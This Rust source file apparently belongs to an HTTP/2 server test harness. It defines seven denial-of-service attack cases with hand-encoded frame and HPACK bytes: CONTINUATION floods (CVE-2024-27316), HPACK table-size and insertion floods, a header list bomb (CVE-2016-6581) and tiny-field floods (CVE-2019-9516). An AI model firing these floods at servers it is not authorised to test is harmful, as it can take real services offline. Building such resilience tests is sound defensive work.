//! Endless header blocks, and those that expand from few bytes.

use super::attack::Attack;
use super::frames::{CONTINUATION, ECHO, Frames, HEADERS, stream};

pub(super) const ATTACKS: [Attack; 7] = [
    // CVE-2024-27316 and similar
    Attack::flood("continuation_empty", |frames, _| frames.frame(CONTINUATION, 0, 1, &[]))
        .with_opening(|frames| frames.frame(HEADERS, 0, 1, ECHO)),
    Attack::flood("continuation_long", |frames, _| frames.frame(CONTINUATION, 0, 1, &[0x83; 16_384]))
        .with_opening(|frames| frames.frame(HEADERS, 0, 1, ECHO)),
    // The table is emptied, set to its maximum size, and filled by one field.
    Attack::flood("hpack_table_size", |frames, iteration| {
        const EMPTIED_AND_GROWN: &[u8] = b"\x20\x3f\xe1\x1f";
        frames.call(stream(iteration), &[EMPTIED_AND_GROWN, ECHO, &large_field()].concat());
    })
    .with_opening(Frames::open_windows)
    .with_bounded_outcome(),
    // As many small fields as a list may hold, each of which evicts another from the table.
    Attack::flood("hpack_insertions", |frames, iteration| {
        frames.call(stream(iteration), &[ECHO, &b"\x40\x01x\x00".repeat(SMALL_FIELDS)].concat());
    })
    .with_opening(Frames::open_windows)
    .with_bounded_outcome(),
    // CVE-2016-6581: a field of nearly 4 KiB, and one byte per reference to it.
    Attack::flood("header_list_bomb", |frames, iteration| {
        const NEWEST: u8 = 0xbe;
        frames.head(stream(iteration + 1), &[ECHO, &[NEWEST; 16_000]].concat());
    })
    .with_opening(|frames| frames.call(stream(0), &[ECHO, &large_field()].concat())),
    // The same within the limit: the largest accepted list.
    Attack::flood("header_list_full", |frames, iteration| {
        const NEWEST: u8 = 0xbe;
        frames.call(stream(iteration + 1), &[ECHO, &[NEWEST; 3]].concat());
    })
    .with_opening(|frames| {
        frames.open_windows();
        frames.call(stream(0), &[ECHO, &large_field()].concat());
    })
    .with_bounded_outcome(),
    // CVE-2019-9516 and similar: tiny fields, as many as a list may hold.
    Attack::flood("header_list_crumbs", |frames, iteration| {
        frames.call(stream(iteration), &[ECHO, &b"\x00\x01x\x00".repeat(SMALL_FIELDS)].concat());
    })
    .with_opening(Frames::open_windows)
    .with_bounded_outcome(),
];

/// Number of one-letter fields in a list of 16 KiB, each counted with 32 extra bytes.
const SMALL_FIELDS: usize = 480;

/// A header field that nearly fills the dynamic table.
fn large_field() -> Vec<u8> {
    const NAME: &[u8] = b"\x40\x05x-big";
    // 4000 in seven bits and more.
    const LENGTH: &[u8] = b"\x7f\xa1\x1e";
    [NAME, LENGTH, &[b'a'; 4000]].concat()
}
